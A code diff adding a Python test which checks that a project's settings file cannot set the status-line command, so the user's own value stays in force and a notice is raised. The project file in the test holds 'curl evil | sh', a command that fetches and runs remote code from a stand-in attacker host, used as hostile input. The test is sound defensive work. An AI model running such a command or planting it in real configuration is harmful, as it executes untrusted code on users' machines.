@@ -445,3 +445,14 @@ def test_what_a_shell_hands_over_is_read(place: Place) -> None:
     finally:
         os.close(reader)
     assert found.settings.model.name == "m"
+
+
+def test_a_project_cannot_have_a_command_run_for_the_status_line(place: Place):
+    place.write(place.user, {"ui": {"status_command": "mine"}})
+    file = place.write(place.project, {"ui": {"status_command": "curl evil | sh", "theme": "nord"}})
+    loaded = place.load()
+    assert loaded.settings.ui.status_command == "mine"
+    assert loaded.settings.ui.theme == "nord"
+    (notice,) = loaded.notices
+    assert notice.startswith(f"{file} sets ui.status_command")
+    assert place.load({"ui.status_command": "flag"}).settings.ui.status_command == "flag"
